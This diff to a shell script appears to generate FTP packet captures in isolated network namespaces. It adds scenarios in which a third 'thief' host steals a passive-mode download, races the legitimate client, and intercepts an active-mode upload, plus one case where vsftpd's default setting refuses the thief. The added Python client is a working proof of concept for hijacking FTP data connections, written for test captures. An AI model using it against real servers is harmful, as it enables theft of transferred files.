@@ -57,7 +57,7 @@ ALL_SCENARIOS="pasv_curl epsv_ftplib active_port ipv6_eprt_epsv long_session
 nat_wrong_pasv firewall_blocks_pasv firewall_rejects_pasv bounce_port
 lossy_transfers concurrent_clients auth_tls multiline_replies hostile_names
 fmt_pcapng fmt_nanosecond fmt_any_sll2 fmt_snaplen96 vlan
-mirror_long"
+mirror_long pasv_hijack port_hijack"
 ONLY=${ONLY:-$ALL_SCENARIOS}
 # every capture file, in transfers.tsv order
 ALL_CAPTURES="pasv-curl.pcap epsv-ftplib.pcap active-port.pcap ipv6-eprt-epsv.pcap
@@ -66,7 +66,7 @@ firewall-rejects-pasv.pcap bounce-port.pcap lossy-transfers.pcap
 concurrent-clients.pcap auth-tls.pcap multiline-replies.pcap
 hostile-names.pcap pasv-curl.pcapng pasv-nanosecond.pcap any-sll2.pcap
 snaplen-96.pcap vlan.pcap
-mirror-long.pcap"
+mirror-long.pcap pasv-hijack.pcap pasv-race.pcap pasv-hijack-refused.pcap port-hijack.pcap"
 
 declare -a BG_PIDS=()
 VSFTPD_PID=""
@@ -1081,6 +1081,228 @@ mirror_long() {
     done < <(cd "$T" && find . -type f | sed "s|^\./|$T/|" | sort)
 }
 
+# ---- data-connection hijacking --------------------------------------------
+# $TMPD/ftpc2.py: python clients for the scenarios below (stdlib only)
+write_pyclient2() {
+cat > "$TMPD/ftpc2.py" <<'EOF'
+"""More ftplib-based clients for record.sh (Python stdlib only)."""
+import ftplib, os, socket, sys, time
+
+S1, C1 = "198.51.100.21", "192.0.2.10"
+THIEF_C = "192.0.2.66"          # third host on the client LAN (PASV thief)
+mode, recv = sys.argv[1], sys.argv[2]
+
+def save(name, data):
+    with open(os.path.join(recv, name), "wb") as f:
+        f.write(data)
+
+def readall(sock):
+    buf = bytearray()
+    while True:
+        try:
+            b = sock.recv(65536)
+        except OSError as e:
+            print("    recv ->", repr(e))
+            break
+        if not b:
+            break
+        buf.extend(b)
+    return bytes(buf)
+
+def login(user="ftpuser", pw="ftpsecret", timeout=10):
+    ftp = ftplib.FTP(timeout=timeout)
+    ftp.connect(S1, 21)
+    ftp.login(user, pw)
+    return ftp
+
+def resp(ftp):
+    try:
+        r = ftp.getresp()
+    except ftplib.all_errors as e:
+        r = "ERR %s" % e
+    print("   ", r)
+    return r
+
+def pasv_port(ftp):
+    return ftplib.parse227(ftp.sendcmd("PASV"))[1]
+
+def connect(src, port):
+    s = socket.create_connection((S1, port), timeout=5, source_address=(src, 0))
+    print("    %s connected to %s:%d from port %d" % (src, S1, port, s.getsockname()[1]))
+    return s
+
+if mode == "pasv-hijack":
+    # the third host connects to the advertised port first and gets the file;
+    # the client's own connection, made after the 150, is refused
+    ftp = login()
+    ftp.sendcmd("TYPE I")
+    port = pasv_port(ftp)
+    thief = connect(THIEF_C, port)
+    time.sleep(0.2)
+    ftp.putcmd("RETR pub/readme.txt")
+    resp(ftp)                                     # 150
+    save("thief-readme.txt", readall(thief)); thief.close()
+    try:
+        connect(C1, port).close()
+    except OSError as e:
+        print("    client connect ->", repr(e))
+    resp(ftp)                                     # 226
+    ftp.quit()
+
+elif mode == "pasv-race":
+    ftp = login()
+    ftp.sendcmd("TYPE I")
+    # round 1: third host first, client second, then RETR
+    port = pasv_port(ftp)
+    thief = connect(THIEF_C, port); time.sleep(0.05)
+    mine = connect(C1, port); time.sleep(0.2)
+    ftp.putcmd("RETR pub/small.bin")
+    resp(ftp)
+    save("thief-small.bin", readall(thief)); thief.close()
+    save("client-small.bin", readall(mine)); mine.close()
+    resp(ftp)
+    time.sleep(0.3)
+    # round 2: client first, third host second
+    port = pasv_port(ftp)
+    mine = connect(C1, port); time.sleep(0.05)
+    thief = connect(THIEF_C, port); time.sleep(0.2)
+    ftp.putcmd("RETR pub/readme.txt")
+    resp(ftp)
+    save("client-readme.txt", readall(mine)); mine.close()
+    save("thief-readme.txt", readall(thief)); thief.close()
+    resp(ftp)
+    ftp.quit()
+
+elif mode == "pasv-refused":
+    # vsftpd default pasv_promiscuous=NO: the third host is turned away
+    ftp = login()
+    ftp.sendcmd("TYPE I")
+    port = pasv_port(ftp)
+    thief = connect(THIEF_C, port); time.sleep(0.2)
+    ftp.putcmd("RETR pub/readme.txt")
+    resp(ftp)
+    save("thief-readme.txt", readall(thief)); thief.close()
+    # try again properly
+    ftp.retrbinary("RETR pub/readme.txt", open(os.path.join(recv, "client-readme.txt"), "wb").write)
+    ftp.quit()
+
+elif mode == "port-hijack":
+    # active mode: the third host (on the server LAN) connects to the client's
+    # PORT port before the server does; the client uploads to the third host
+    portfile, okfile, src = sys.argv[3], sys.argv[4], sys.argv[5]
+    ftp = login()
+    ftp.sendcmd("TYPE I")
+    ftp.set_pasv(False)
+    lsock = ftp.makeport()                         # PORT 192,0,2,10,p1,p2
+    open(portfile + ".tmp", "w").write(str(lsock.getsockname()[1]))
+    os.rename(portfile + ".tmp", portfile)
+    for _ in range(100):
+        if os.path.exists(okfile):
+            break
+        time.sleep(0.05)
+    time.sleep(0.1)
+    ftp.putcmd("STOR upload/port-hijack.bin")
+    time.sleep(0.5)                                # vsftpd's connection is queued too now
+    conn, peer = lsock.accept()
+    print("    client accepted data connection from %s:%d" % peer)
+    lsock.close()                                  # resets the queued server connection
+    with open(src, "rb") as f:
+        try:
+            conn.sendall(f.read())
+        except OSError as e:
+            print("    send ->", repr(e))
+    conn.close()
+    resp(ftp)
+    resp(ftp)
+    ftp.quit()
+
+elif mode == "port-thief":
+    portfile, okfile, me = sys.argv[3], sys.argv[4], sys.argv[5]
+    for _ in range(200):
+        if os.path.exists(portfile):
+            break
+        time.sleep(0.05)
+    port = int(open(portfile).read())
+    s = socket.create_connection((C1, port), timeout=5, source_address=(me, 0))
+    print("    thief %s connected to %s:%d" % (me, C1, port))
+    open(okfile, "w").write("ok")
+    save("thief-upload.bin", readall(s)); s.close()
+
+else:
+    sys.exit("unknown mode " + mode)
+EOF
+}
+
+pyc2() {  # pyc2 NS MODE CAPTURE [EXTRA...]
+    ip netns exec "$1" "$PY" "$TMPD/ftpc2.py" "$2" "$RECV/$3" "${@:4}"
+}
+
+THIEF_C=192.0.2.66 THIEF_S=198.51.100.66
+
+# Three captures of a third host (192.0.2.66, an extra address on the client
+# LAN) connecting to the port the server advertised in its 227 reply.  The
+# client script tells the third host the port (as an attacker scanning the
+# passive range would find it).
+pasv_hijack() {
+    c ip addr add $THIEF_C/24 dev c-eth0
+    local cap R
+    # 1) vsftpd pasv_promiscuous=YES: the third host wins, gets the file
+    cap=pasv-hijack.pcap R=$RECV/$cap
+    begin $cap
+    vsftpd_start hijack pasv_promiscuous=YES
+    cap_start $cap $NS_S s-eth0
+    pyc2 $NS_C pasv-hijack $cap
+    cap_stop; vsftpd_stop
+    same "$R/thief-readme.txt" "$HOMEDIR/pub/readme.txt"
+    row $cap "third host $THIEF_C" RETR /pub/readme.txt "$HOMEDIR/pub/readme.txt" \
+        "ftplib $C1 sent PASV+RETR; the data connection came from $THIEF_C (pasv_promiscuous=YES)"
+    # 2) both connect before RETR, in both orders: the first one queued wins
+    cap=pasv-race.pcap R=$RECV/$cap
+    begin $cap
+    vsftpd_start race pasv_promiscuous=YES
+    cap_start $cap $NS_S s-eth0
+    pyc2 $NS_C pasv-race $cap
+    cap_stop; vsftpd_stop
+    same "$R/thief-small.bin" "$HOMEDIR/pub/small.bin"
+    same "$R/client-readme.txt" "$HOMEDIR/pub/readme.txt"
+    row $cap "third host $THIEF_C" RETR /pub/small.bin "$HOMEDIR/pub/small.bin" \
+        "ftplib $C1 sent PASV+RETR; $THIEF_C connected first and got the file; the client's connection was reset"
+    row $cap "ftplib $C1" RETR /pub/readme.txt "$HOMEDIR/pub/readme.txt" \
+        "client connected first; the third host's connection was reset"
+    # 3) vsftpd default (pasv_promiscuous=NO): 425 Security: Bad IP connecting
+    cap=pasv-hijack-refused.pcap R=$RECV/$cap
+    begin $cap
+    vsftpd_start refused
+    cap_start $cap $NS_S s-eth0
+    pyc2 $NS_C pasv-refused $cap
+    cap_stop; vsftpd_stop
+    same "$R/client-readme.txt" "$HOMEDIR/pub/readme.txt"
+    [ -s "$R/thief-readme.txt" ] && { echo "!!! thief got data" >&2; MISMATCH=1; }
+    row $cap "ftplib $C1" RETR /pub/readme.txt "$HOMEDIR/pub/readme.txt" "second attempt, after the 425"
+    c ip addr del $THIEF_C/24 dev c-eth0
+}
+
+# Active mode: a third host on the server LAN (198.51.100.66) connects to the
+# port named in the client's PORT before vsftpd does; the client accepts it and
+# uploads to it.
+port_hijack() {
+    local cap=port-hijack.pcap R=$RECV/port-hijack.pcap
+    begin $cap
+    s ip addr add $THIEF_S/24 dev s-eth0
+    rm -f "$TMPD/thief-port" "$TMPD/thief-ok"
+    vsftpd_start porthijack
+    cap_start $cap $NS_S s-eth0
+    pyc2 $NS_S port-thief $cap "$TMPD/thief-port" "$TMPD/thief-ok" $THIEF_S &
+    local tp=$!
+    pyc2 $NS_C port-hijack $cap "$TMPD/thief-port" "$TMPD/thief-ok" "$CF/up-20k.bin"
+    wait $tp
+    cap_stop; vsftpd_stop
+    s ip addr del $THIEF_S/24 dev s-eth0
+    same "$R/thief-upload.bin" "$CF/up-20k.bin"
+    row $cap "ftplib $C1 -> third host $THIEF_S" STOR /upload/port-hijack.bin "$CF/up-20k.bin" \
+        "active mode; the bytes went to $THIEF_S, which connected to the PORT port first"
+}
+
 # ================================================================ main
 main() {
     preflight
@@ -1088,6 +1310,7 @@ main() {
     setup_net
     make_client_files
     write_pyclient
+    write_pyclient2
     local sc
     for sc in $ONLY; do "$sc"; done
     write_tsv
